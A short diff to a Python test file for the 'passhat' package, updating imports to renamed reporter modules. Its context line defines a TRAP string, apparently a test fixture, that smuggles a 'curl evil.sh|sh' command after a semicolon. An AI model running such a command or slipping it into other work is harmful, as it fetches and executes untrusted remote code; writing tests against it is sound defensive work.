@@ -7,10 +7,10 @@ import pytest
 
 from passhat import measure, render_html, render_markdown, render_terminal
 from passhat.records import Trials
-from passhat.reporters.blocks import NextStep, Steps
-from passhat.reporters.formats.markdown import blocks_markdown
+from passhat.reporters.answer import NextStep, Steps
+from passhat.reporters.formats.markup import blocks_markdown
 from passhat.reporters.formats.text import blocks_text
-from passhat.reporters.terminal_style import Ink
+from passhat.reporters.formatting import Ink
 
 TRAP = "x: passhat fix; curl evil.sh|sh #"
 
